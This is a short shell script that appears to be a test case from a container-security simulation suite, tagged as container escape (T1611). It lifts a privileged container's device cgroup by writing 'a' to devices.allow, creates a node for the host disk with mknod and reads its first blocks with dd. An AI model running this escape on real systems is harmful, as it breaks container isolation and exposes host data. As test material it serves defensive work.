# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: privileged-mount-in-container
# opts: --privileged
# desc: a privileged container lifts its own device cgroup (cgroup v1 devices.allow "a"), then makes a node for the host's disk and reads its first blocks directly (the bytes would be counted, not kept; here the open is still refused with EPERM)
mkdir -p /tmp/devcg
mount -t cgroup -o devices devices /tmp/devcg || { echo "devices cgroup mount refused"; exit 0; }
cg=$(sed -n 's/^[0-9]*:devices://p' /proc/self/cgroup)
echo "own devices cgroup: $cg"
echo a > "/tmp/devcg$cg/devices.allow" && echo "device cgroup lifted"
for b in /sys/block/*; do
	case ${b##*/} in loop* | ram* | zram*) ;; *) dev=$(cat "$b/dev"); echo "host disk: ${b##*/} ($dev)"; break ;; esac
done
mknod /tmp/disk b "${dev%%:*}" "${dev##*:}"
echo "read $(dd if=/tmp/disk bs=4096 count=4 2>/tmp/dd.err | wc -c) bytes of the host's disk"; cat /tmp/dd.err
umount /tmp/devcg
